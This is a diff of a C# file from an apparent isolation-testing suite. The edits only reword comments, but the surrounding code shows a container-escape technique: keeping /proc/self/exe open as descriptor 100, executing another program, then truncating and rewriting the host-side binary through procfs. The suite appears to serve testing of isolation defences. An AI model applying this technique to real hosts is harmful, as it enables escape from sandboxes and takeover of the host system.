@@ -5,7 +5,7 @@ using Isolation.Linux.Interop;
 namespace Isolation.Escapes.Attacks;
 
 /// <summary>
-/// Class 1: the program that a host-side process runs is opened through procfs and rewritten when it is no longer busy.
+/// Class 1: the payload opens the program of a host-side process through procfs and rewrites it when it is not busy.
 /// </summary>
 internal static class HostProgramAttacks
 {
@@ -20,7 +20,7 @@ internal static class HostProgramAttacks
         yield return new OwnProgramAttack();
     }
 
-    // The payload keeps its own program open without reading it, becomes another program, and writes to what it kept.
+    // The payload keeps its own program open without reading it, executes another program, and writes to the open file.
     private sealed class OwnProgramAttack() : Attack(1, "rewrite the payload's own program once it runs no more")
     {
         internal override async Task<Finding> BareAsync(Ground ground)
@@ -44,7 +44,7 @@ internal static class HostProgramAttacks
             writer.Open("open", "/proc/self/fd/100", Kernel.OWronly | Kernel.OTrunc);
             string second = ground.Install(writer.Image());
 
-            // It must tell nothing: what is told is read as the writer's.
+            // It must report nothing: every report is attributed to the writer.
             Payload keeper = new();
             long kept = keeper.Quiet(Calls.Common.Openat, Kernel.AtFdcwd, keeper.Text("/proc/self/exe"), Kernel.OPath);
             keeper.Quiet(Calls.Common.Dup3, Payload.At(kept), 100, 0);
